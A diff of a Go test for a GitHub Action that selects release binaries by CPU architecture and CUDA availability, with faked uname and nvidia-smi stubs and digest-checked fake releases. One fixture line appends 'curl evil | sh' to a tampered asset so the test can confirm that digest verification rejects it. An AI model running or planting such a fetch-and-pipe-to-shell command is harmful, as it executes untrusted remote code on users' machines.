@@ -50,6 +50,22 @@ cp "$f" "$out"
 		write(filepath.Join(b, "go"), goStub, 0o755)
 	}
 	write(filepath.Join(gpuBin, "nvidia-smi"), "#!/bin/sh\nexit 0\n", 0o755)
+	// Hosts of other machines: a uname that answers -s, -m and -sm as
+	// there, ahead of the real one on PATH (build.sh picks the asset from
+	// uname -m).
+	hostBin := func(name, machine string, gpu bool) string {
+		b := filepath.Join(dir, name)
+		write(filepath.Join(b, "go"), goStub, 0o755)
+		write(filepath.Join(b, "uname"), `#!/bin/sh
+case "$1" in -s) echo Linux ;; -m) echo `+machine+` ;; *) echo Linux `+machine+` ;; esac
+`, 0o755)
+		if gpu {
+			write(filepath.Join(b, "nvidia-smi"), "#!/bin/sh\nexit 0\n", 0o755)
+		}
+		return b
+	}
+	armBin, armGPUBin := hostBin("arm-bin", "aarch64", false), hostBin("arm-gpu-bin", "aarch64", true)
+	ppcBin := hostBin("ppc-bin", "ppc64le", false)
 
 	releases := filepath.Join(dir, "releases")
 	fake := func(version string, runs bool) string {
@@ -83,9 +99,12 @@ cp "$f" "$out"
 			write(filepath.Join(dir, "src", ref, "action", "SHA256SUMS"), sumsOf(source, corrupt), 0o644)
 		}
 	}
-	built := map[string]string{"perfgate-linux-amd64": fake("v1.4.2", true), "perfgate-linux-amd64-cuda12": fake("v1.4.2", true)}
+	// The assets of a release: one CUDA binary per machine (for CUDA 12 and
+	// 13 hosts). Each says which it is, so a wrong pick shows.
+	built := map[string]string{"perfgate-linux-amd64": fake("v1.4.2", true), "perfgate-linux-amd64-cuda": fake("v1.4.2", true) + "# amd64 cuda\n",
+		"perfgate-linux-arm64": fake("v1.4.2", true) + "# arm64\n", "perfgate-linux-arm64-cuda": fake("v1.4.2", true) + "# arm64 cuda\n"}
 	release("v1", built, built, false)
-	v142 := map[string]string{"perfgate-linux-amd64": fake("v1.4.2", true), "perfgate-linux-amd64-cuda12": fake("v1.4.2", false)}
+	v142 := map[string]string{"perfgate-linux-amd64": fake("v1.4.2", true), "perfgate-linux-amd64-cuda": fake("v1.4.2", false)}
 	release("v1.4.2", v142, v142, false)
 	v143 := map[string]string{"perfgate-linux-amd64": fake("v1.4.3", true)}
 	release("v1.4.3", v143, v143, true)
@@ -97,6 +116,9 @@ cp "$f" "$out"
 	v150 := map[string]string{"perfgate-linux-amd64": fake("v1.5.0", true)}
 	release("v1.5.0", map[string]string{"perfgate-linux-amd64": fake("v1.5.0", true) + "curl evil | sh\n"}, v150, false)
 	release("v1.1.0", v150, nil, false) // a tag from before the digests were committed
+	// A tag from before the one CUDA binary: amd64 only, CUDA 12's.
+	v130 := map[string]string{"perfgate-linux-amd64": fake("v1.3.0", true), "perfgate-linux-amd64-cuda12": fake("v1.3.0", true) + "# cuda12\n"}
+	release("v1.3.0", v130, v130, false)
 	write(filepath.Join(dir, "src", "v9", "action", "SHA256SUMS"), sumsOf(v150, false), 0o644)
 
 	tmp := filepath.Join(dir, "runner-temp")
@@ -106,7 +128,14 @@ cp "$f" "$out"
 		log                  string
 	}{
 		{"major tag, no GPU: the default binary", "auto", "v1", plainBin, "perfgate-linux-amd64", "using the release binary perfgate-linux-amd64 of v1 (v1.4.2)"},
-		{"major tag, GPU: the CUDA binary", "auto", "v1", gpuBin, "perfgate-linux-amd64-cuda12", "perfgate-linux-amd64-cuda12 of v1"},
+		{"major tag, GPU: the CUDA binary", "auto", "v1", gpuBin, "perfgate-linux-amd64-cuda", "using the release binary perfgate-linux-amd64-cuda of v1"},
+		{"arm64, no GPU: the arm64 binary", "auto", "v1", armBin, "perfgate-linux-arm64", "using the release binary perfgate-linux-arm64 of v1"},
+		{"arm64, GPU: the arm64 CUDA binary", "auto", "v1", armGPUBin, "perfgate-linux-arm64-cuda", "using the release binary perfgate-linux-arm64-cuda of v1"},
+		{"arm64, cuda false on a GPU host", "false", "v1", armGPUBin, "perfgate-linux-arm64", "using the release binary perfgate-linux-arm64 of v1"},
+		{"an older tag, GPU: its CUDA 12 binary", "auto", "v1.3.0", gpuBin, "perfgate-linux-amd64-cuda12", "using the release binary perfgate-linux-amd64-cuda12 of v1.3.0"},
+		{"an older tag, no GPU: the default binary", "auto", "v1.3.0", plainBin, "perfgate-linux-amd64", "using the release binary perfgate-linux-amd64 of v1.3.0"},
+		{"an older tag on arm64: no binary", "auto", "v1.3.0", armGPUBin, "", "the action's source at v1.3.0 has no digest of perfgate-linux-arm64-cuda (action/SHA256SUMS); building from source"},
+		{"a machine without binaries", "false", "v1", ppcBin, "", "releases have no binary for Linux ppc64le; building from source"},
 		{"cuda false on a GPU host: the default binary", "false", "v1.4.2", gpuBin, "perfgate-linux-amd64", "of v1.4.2"},
 		{"a CUDA binary that does not load here", "auto", "v1.4.2", gpuBin, "", "does not run here"},
 		{"cuda true: always from source", "true", "v1", plainBin, "", "cuda: true, but no nvidia-smi"},
